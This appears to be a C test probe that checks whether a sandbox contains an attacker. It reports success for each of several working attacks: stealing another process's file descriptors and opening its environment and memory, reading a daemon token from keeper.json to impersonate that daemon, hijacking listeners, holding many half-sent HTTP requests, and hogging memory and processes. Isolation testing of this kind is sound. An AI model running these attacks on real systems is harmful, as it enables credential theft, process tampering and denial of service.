/* What an attacker does that a shell cannot. Each way ends with 0 if it had success, and says how far it got. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

/* From keyutils.h, which not every machine has. */
#define JOIN_SESSION_KEYRING 1
#define SEARCH 10
#define SESSION_KEYRING -3

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

/* Takes descriptors of a process, and reads its environment and its memory. */
static int steal(const char *process) {
    int pid = atoi(process), taken = 0;
    char path[64], byte;
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    for (int fd = 0; pidfd >= 0 && fd < 64; fd++)
        taken += syscall(SYS_pidfd_getfd, pidfd, fd, 0) >= 0;
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    int environ_is_open = open(path, O_RDONLY) >= 0;
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int memory_is_open = open(path, O_RDWR) >= 0;
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    int list_is_open = open(path, O_RDONLY | O_DIRECTORY) >= 0;
    printf("pidfd %d, descriptors %d, environ %d, memory %d, fd %d\n", pidfd >= 0, taken, environ_is_open,
           memory_is_open, list_is_open);
    return !(taken || environ_is_open || memory_is_open || list_is_open);
}

/* Connects to a socket by its path. */
static int reach(const char *path) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path, path, sizeof address.sun_path - 1);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    int failed = connect(fd, (struct sockaddr *)&address, sizeof address);
    printf("connect: %s\n", failed ? strerror(errno) : "reached");
    return failed != 0;
}

/* Speaks to a keeper in the folder as its daemon does, with the token that lies there. */
static int speak(const char *folder) {
    static char card[8192], line[8192];
    FILE *file = chdir(folder) ? NULL : fopen("keeper.json", "r");
    size_t count = file ? fread(card, 1, sizeof card - 1, file) : 0;
    char *token = strstr(card, "\"daemon_token\":\"");
    if (!count || !token) {
        printf("no token: %s\n", strerror(errno));
        return 1;
    }
    token += strlen("\"daemon_token\":\"");
    *strchr(token, '"') = 0;
    struct sockaddr_un address = {.sun_family = AF_UNIX, .sun_path = "socket"};
    struct timeval patience = {.tv_sec = 10};
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    signal(SIGPIPE, SIG_IGN);
    int length = snprintf(line, sizeof line, "{\"hello\":{\"v\":99,\"oldest\":1,\"token\":\"%s\"}}\n", token);
    ssize_t heard = -1;
    if (connect(fd, (struct sockaddr *)&address, sizeof address) == 0 && write(fd, line, (size_t)length) == length)
        heard = read(fd, line, sizeof line - 1);
    line[heard > 0 ? heard : 0] = 0;
    printf("token of %zu characters; it answers: %s\n", strlen(token), line);
    return strncmp(line, "{\"hello\"", 8) != 0;
}

/* Starts a program in a session with a ticket in its keyring. */
static int session(char **words) {
    const char ticket[] = "secret";
    if (syscall(SYS_keyctl, JOIN_SESSION_KEYRING, NULL) < 0 ||
        syscall(SYS_add_key, "user", "ticket", ticket, strlen(ticket), SESSION_KEYRING) < 0) {
        perror("no keyring");
        return 1;
    }
    execvp(words[0], words);
    perror(words[0]);
    return 1;
}

/* Looks for the ticket in the keyring of this session. */
static int ticket(void) {
    long key = syscall(SYS_keyctl, SEARCH, SESSION_KEYRING, "user", "ticket", 0);
    printf("ticket %ld: %s\n", key, key < 0 ? strerror(errno) : "found");
    return key < 0;
}

/* Takes so many MiB, and has so many more processes that share them. Ends after some seconds. */
static int hog(const char *size, const char *wanted, const char *seconds) {
    size_t bytes = (size_t)atol(size) << 20;
    char *memory = malloc(bytes);
    if (!memory)
        return 1;
    memset(memory, 1, bytes);
    for (int at = atoi(wanted); at > 0; at--)
        if (fork() == 0)
            break;
    volatile char sum = 0;
    for (size_t at = 0; at < bytes; at += 4096)
        sum += memory[at];
    sleep((unsigned)atoi(seconds));
    return 0;
}

static struct sockaddr_in local(const char *port) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(port))};
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return address;
}

/* Listens in place of another program, and prints whatever comes. A path is that of a socket. */
static int listen_at(const char *place) {
    struct sockaddr_in port = local(place);
    struct sockaddr_un path = {.sun_family = AF_UNIX};
    strncpy(path.sun_path, place, sizeof path.sun_path - 1);
    int is_path = place[0] == '/', on = 1, fd = socket(is_path ? AF_UNIX : AF_INET, SOCK_STREAM, 0);
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    int failed = is_path ? bind(fd, (struct sockaddr *)&path, sizeof path)
                         : bind(fd, (struct sockaddr *)&port, sizeof port);
    if (failed || listen(fd, 64)) {
        perror("listen");
        return 1;
    }
    if (is_path)
        chmod(place, 0777);
    fprintf(stderr, "listening\n");
    for (;;) {
        char bytes[65536];
        int stream = accept(fd, NULL, NULL);
        struct timeval patience = {.tv_sec = 2};
        setsockopt(stream, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
        ssize_t count = read(stream, bytes, sizeof bytes);
        printf("connection of %zd bytes: %.*s\n", count, count > 0 ? (int)count : 0, bytes);
        fflush(stdout);
        close(stream);
    }
}

/* Opens so many connections, says half a request on each second one, and holds them. */
static int hold(const char *port, const char *wanted) {
    struct sockaddr_in address = local(port);
    int count = atoi(wanted), open = 0;
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
    signal(SIGPIPE, SIG_IGN);
    for (int at = 0; at < count; at++) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (fd >= 0 && connect(fd, (struct sockaddr *)&address, sizeof address) == 0)
            open++;
        if (at % 2 && write(fd, "POST /jobs HTTP/1.1\r\nhost: x\r\nx-slow:", 37) < 0)
            continue;
    }
    fprintf(stderr, "holding %d connections\n", open);
    pause();
    return 0;
}

int main(int count, char **words) {
    if (count == 3 && !strcmp(words[1], "steal"))
        return steal(words[2]);
    if (count == 3 && !strcmp(words[1], "reach"))
        return reach(words[2]);
    if (count == 3 && !strcmp(words[1], "listen"))
        return listen_at(words[2]);
    if (count == 4 && !strcmp(words[1], "hold"))
        return hold(words[2], words[3]);
    if (count == 3 && !strcmp(words[1], "speak"))
        return speak(words[2]);
    if (count >= 3 && !strcmp(words[1], "session"))
        return session(words + 2);
    if (count == 2 && !strcmp(words[1], "ticket"))
        return ticket();
    if (count == 5 && !strcmp(words[1], "hog"))
        return hog(words[2], words[3], words[4]);
    fprintf(stderr, "usage: attack steal PID | reach PATH | listen PORT_OR_PATH | hold PORT COUNT |\n"
                    "       speak FOLDER | session PROGRAM ARGUMENT... | ticket | hog MIB PROCESSES SECONDS\n");
    return 2;
}
